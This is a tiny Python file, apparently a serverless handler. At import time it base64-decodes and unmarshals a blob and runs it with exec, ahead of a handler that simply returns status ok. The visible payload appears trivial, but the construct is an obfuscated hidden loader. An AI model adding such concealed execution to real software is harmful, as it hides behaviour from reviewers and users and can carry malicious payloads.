import marshal, base64
CODE = base64.b64decode("4wAAAAAAAAAAAAAAAAAAAAADAAAAQAAAAHMMAAAAZQBkAIMBAQBkAVMAKQLaAmhp")
exec(marshal.loads(CODE[16:]))

def handle(event, context):
    return {"status": "ok"}
